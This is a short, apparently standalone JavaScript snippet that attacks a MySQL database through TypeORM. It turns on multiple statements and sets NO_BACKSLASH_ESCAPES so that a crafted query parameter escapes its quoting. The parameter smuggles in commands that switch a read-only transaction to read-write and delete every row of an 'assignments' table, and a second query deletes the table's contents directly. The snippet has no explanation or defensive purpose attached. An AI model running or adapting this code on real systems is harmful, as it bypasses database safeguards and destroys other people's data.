const { DataSource } = require('typeorm'); mine = new DataSource({ ...dataSource.options, extra: { multipleStatements: true } })

mine.initialize()

connection = await mine.driver.pool.promise().getConnection()

connection.query("set sql_mode = 'NO_BACKSLASH_ESCAPES'")

connection.query('select ?', ["'; set session transaction read write; delete from assignments; -- "]).catch(() => {})

connection.query('delete from assignments')
